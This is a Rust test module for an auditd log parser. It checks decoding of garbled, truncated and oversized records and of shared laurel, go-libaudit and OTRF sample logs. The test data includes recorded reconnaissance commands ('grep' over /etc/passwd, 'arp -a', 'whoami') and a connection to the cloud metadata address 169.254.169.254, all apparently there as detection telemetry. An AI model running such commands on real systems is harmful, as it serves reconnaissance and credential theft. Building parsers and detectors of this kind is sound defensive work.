    #[test]
    fn garbled_lines_fail_and_truncated_records_keep_what_is_there() {
        let (ev, errs) = run(r#"type=UNKNOWN[1329] msg=?
type=SYSCALL msg=audit(1700000008.0
node=h1
type=SYSCALL msg=audit(17000x0008.000:1): arch=c000003e
type=SYSCALL msg=audit(1700000008.000:x): arch=c000003e
2024-01-02 03:04:05 +0000 UTC k8s.io /tasks/start {}
type=SYSCALL msg=audit(1700000008.000:2): arch=c000003e syscall=59 success=yes exit=0 ppid=3 pid=4 uid=0 comm="ba
type=EXECVE msg=audit(1700000008.000:2): argc=3 a0="bash" a1="-c" a2=6563686F206869
type=EXECVE msg=audit(1700000008.000:3): argc=2 a0="ls" a1=2F746D7
"#);
        let lines: Vec<u64> = errs.iter().map(|(n, _)| *n).collect();
        assert_eq!(lines, [1, 2, 3, 4, 5, 6]);
        assert!(matches!(&errs[0].1, DecodeError::Invalid(m) if m.contains("UNKNOWN[1329]")));
        assert!(matches!(&errs[3].1, DecodeError::Time(t) if t == "17000x0008.000"));
        assert!(matches!(&errs[4].1, DecodeError::Invalid(m) if m.contains("serial")));
        assert_eq!(ev.len(), 2);
        let p = process(&ev[0]);
        assert_eq!(
            (p.pid, &*p.exe, p.cmdline.as_str()),
            (Some(4), "bash", "bash -c echo hi")
        );
        // A hex argument cut mid-byte keeps its whole bytes.
        assert_eq!(process(&ev[1]).cmdline, "ls /tm");
    }

    #[test]
    fn oversized_fields_and_arguments_are_bounded() {
        let long = "41".repeat(MAX_ARGV_BYTES);
        let ev = ok(&format!(
            "type=SYSCALL msg=audit(1700000009.000:1): arch=c000003e syscall=59 success=yes exit=0 pid=5 exe={long}\n\
             type=EXECVE msg=audit(1700000009.000:1): argc=3 a0=\"x\" a1={long} a2=\"after\"\n\
             type=EXECVE msg=audit(1700000009.000:1): a4000000000=\"y\"\n"
        ));
        let p = process(&ev[0]);
        assert_eq!(p.exe.len(), MAX_FIELD_BYTES);
        // The argument that would overflow the budget is dropped; later ones still fit.
        assert_eq!(p.cmdline, "x after");
    }

    #[test]
    fn end_of_input_flushes_through_the_stream() {
        let data =
            format!("{EXEC}\ntype=EXECVE msg=audit(1700000000.123:500): argc=1 a0=\"curl\"\n");
        let (ev, stats) = stream("mem", data.into_bytes());
        assert_eq!(ev.len(), 1);
        assert_eq!(ev[0].source.path.as_ref(), "mem");
        assert_eq!(ev[0].source.line, 1);
        let c = &stats.formats[&Format::Auditd];
        assert_eq!((c.records, c.events), (2, 1));
    }

    fn samples() -> Option<std::path::PathBuf> {
        crate::test_support::samples("auditd")
    }

    fn sample(dir: &std::path::Path, name: &str) -> (Vec<Event>, DecodeStats) {
        let data = std::fs::read(dir.join(name)).unwrap();
        stream(name, data)
    }

    #[test]
    fn shared_samples() {
        let Some(dir) = samples() else { return };

        // laurel: a connect to 127.0.0.1:11211 and a non-blocking one to [::1]:11211.
        let (ev, st) = sample(&dir, "record-connect.txt");
        assert_eq!(st.skipped_total(), 0);
        assert_eq!(ev.len(), 2);
        for (e, dst) in ev.iter().zip(["127.0.0.1", "::1"]) {
            let c = connection(e);
            assert_eq!(c.dst, dst.parse::<IpAddr>().unwrap());
            assert_eq!(
                (c.dst_port, c.pid, c.exe.as_deref()),
                (Some(11211), Some(1074252), Some("/usr/bin/php"))
            );
        }
        assert_eq!(ev[1].source.line, 4);
        assert_eq!(ev[1].time, Ts(1_723_819_442_459_000_000));

        // laurel ENRICHED with node=.
        let (ev, st) = sample(&dir, "record-execve.txt");
        assert_eq!(st.skipped_total(), 0);
        assert_eq!(ev.len(), 1);
        let p = process(&ev[0]);
        assert_eq!(
            p.placement,
            Placement::Unresolved {
                host: Some("work".into())
            }
        );
        assert_eq!((p.pid, p.ppid), (Some(10884), Some(10883)));
        assert_eq!(
            (&*p.exe, p.cmdline.as_str(), p.user.as_deref()),
            ("/usr/bin/whoami", "whoami", Some("0"))
        );

        // laurel fork/exec tree: 4 forks and 4 execs; the `#` comment lines are skipped.
        let (ev, st) = sample(&dir, "shell-proc-trace.txt");
        let links: Vec<String> = ev
            .iter()
            .map(|e| match &e.kind {
                EventKind::ProcessFork(f) => format!("fork {}>{}", f.ppid, f.pid),
                EventKind::Process(p) => format!("exec {} {}", p.pid.unwrap_or(0), p.cmdline),
                other => panic!("{other:?}"),
            })
            .collect();
        assert_eq!(
            links,
            [
                "fork 71432>71505",
                "exec 71505 /bin/sh ./src/testdata/double-fork/test-script.sh",
                "fork 71505>71506",
                "fork 71505>71507",
                "fork 71506>71508",
                "exec 71507 grep baz",
                "fork 71506>71509",
                "exec 71508 /bin/echo foo",
                "exec 71509 /bin/sed -e s/foo/bar/",
            ]
        );
        assert_eq!(st.formats[&Format::Auditd].records, 39);
        assert_eq!(st.skipped["unrecognized line"].count, 23);
        // Once the input is known to be auditd, a later comment is reported as a bad record.
        assert_eq!(st.skipped["auditd: missing field type"].first[0].line, 40);
        assert_eq!(st.formats[&Format::Auditd].events, 9);

        // go-libaudit: single records of many types. The IMDS SOCKADDR has no SYSCALL
        // (so no proof it was a connect) and the EINPROGRESS connect no SOCKADDR: neither
        // is a connection. The four lone EXECVE records are programs run.
        let (ev, st) = sample(&dir, "audit-rhel7.log");
        assert_eq!(st.formats[&Format::Auditd].records, 49);
        assert_eq!(st.skipped_total(), 1);
        assert_eq!(st.skipped["auditd: invalid record"].first[0].line, 31);
        let cmds: Vec<&str> = ev.iter().map(|e| process(e).cmdline.as_str()).collect();
        assert_eq!(cmds.len(), 4);
        assert_eq!(cmds[0], "auditctl -a exit,always -F arch=b32 -S execve");
        assert_eq!(cmds[1], "cat btest=test -f regex=8");
        assert_eq!(cmds[2], "grep --color=auto -e [:alpha:] /etc/passwd");
        assert!(
            cmds[3].starts_with("jq . {\n        \"dev\": \"08:01\",\n"),
            "{}",
            cmds[3]
        );
        assert!(
            cmds[3].ends_with("\"sequence\": 1075834\n      }"),
            "{}",
            cmds[3]
        );
        assert_eq!(&*process(&ev[0]).exe, "auditctl");
        assert_eq!(ev[0].source.line, 15);
        let imds = parse_sockaddr(&hex_prefix("02000050A9FEA9FE0000000000000000"));
        assert_eq!(imds, Some(("169.254.169.254".parse().unwrap(), 80)));

        // OTRF: arp -a | grep -v '^?', no EOE records at all.
        let (ev, st) = sample(&dir, "sh_arp_cache_2020-11-10074812.log");
        assert_eq!(st.skipped_total(), 0);
        let got: Vec<_> = ev
            .iter()
            .map(|e| {
                let p = process(e);
                (p.pid, p.ppid, &*p.exe, p.cmdline.as_str(), e.source.line)
            })
            .collect();
        assert_eq!(
            got,
            [
                (Some(1631), Some(29002), "/usr/sbin/arp", "arp -a", 1),
                (Some(1632), Some(29002), "/bin/grep", "grep -v ^?", 7),
            ]
        );
        assert_eq!(ev[0].time, Ts(1_604_994_496_155_000_000));
    }
}
